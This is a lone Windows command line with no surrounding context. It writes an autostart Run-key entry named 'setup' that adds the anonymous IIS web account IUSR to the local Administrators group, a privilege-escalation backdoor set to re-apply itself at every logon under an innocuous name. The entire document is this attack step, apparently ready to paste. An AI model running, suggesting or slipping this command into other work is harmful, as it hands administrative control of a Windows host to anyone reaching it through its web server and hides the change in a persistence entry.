reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v setup /d "net localgroup Administrators IUSR /add" /f
